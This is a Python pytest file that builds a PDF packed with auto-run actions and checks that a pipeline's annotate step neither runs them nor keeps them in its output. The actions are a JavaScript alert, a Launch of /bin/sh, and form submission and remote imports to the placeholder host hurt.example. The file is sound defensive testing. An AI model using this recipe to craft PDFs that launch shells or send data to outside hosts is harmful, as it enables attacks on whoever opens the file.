"""A PDF that runs scripts, starts programs and sends forms: reading it does none of that, and the copy with marks can't."""

import io
import socket
import subprocess

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf

from pipeline import api
from tests.readers.pdf_builder import Sheet

ACTIONS = {
    "JavaScript": {"JS": "app.alert(1)"},
    "Launch": {"F": "/bin/sh"},
    "SubmitForm": {"F": "http://hurt.example/"},
    "GoToR": {"F": "http://hurt.example/x.pdf", "D": Array([0, Name.Fit])},
    "ImportData": {"F": "http://hurt.example/x.fdf"},
}


def hurtful() -> bytes:
    """Return a plan with every action in every place where a viewer looks for one, and a link."""
    sheet, made = Sheet(), io.BytesIO()
    sheet.text(60, 400, "Plan gminy Zalesie na lata 2026-2030. Wsparcie obejmie 12 rodzin.")
    with pikepdf.open(io.BytesIO(sheet.data())) as pdf:
        actions = [Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **rest) for kind, rest in ACTIONS.items()]
        events = Dictionary(O=actions[0], C=actions[1], WC=actions[2])
        link = Dictionary(Type=Name.Action, S=Name.URI, URI="http://example.com/")
        fields = [
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=each, AA=events) for each in (*actions, link)
        ]
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(field) for field in fields])
        pdf.pages[0].obj.AA = events
        pdf.Root.OpenAction, pdf.Root.AA = actions[0], events
        pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots, XFA="<xfa/>")
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", actions[0]])))
        pdf.save(made)
    return made.getvalue()


@pytest.fixture
def alone(monkeypatch):
    def refuse(*arguments: object, **options: object) -> None:
        raise AssertionError(f"opened or started: {arguments}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)


def test_actions_of_a_pdf_are_neither_run_nor_handed_on(alone, tmp_path):
    plan, copy = tmp_path / "plan.pdf", tmp_path / "copy.pdf"
    plan.write_bytes(hurtful())
    api.annotate(plan, copy)
    with Pdf.open(copy) as pdf:
        kinds = {str(each.S) for each in pdf.objects if isinstance(each, Dictionary) and "/S" in each}
        page = pdf.pages[0].obj
        left = [str(each.A.S) for each in page.Annots if "/A" in each]
        assert left == ["/URI"]
        assert not kinds & {f"/{kind}" for kind in ACTIONS}
        assert not {"/OpenAction", "/AA"} & set(pdf.Root.keys())
        assert "/AA" not in page
        assert not [each for each in page.Annots if "/AA" in each]
        assert "/JavaScript" not in pdf.Root.Names
        assert "/XFA" not in pdf.Root.AcroForm
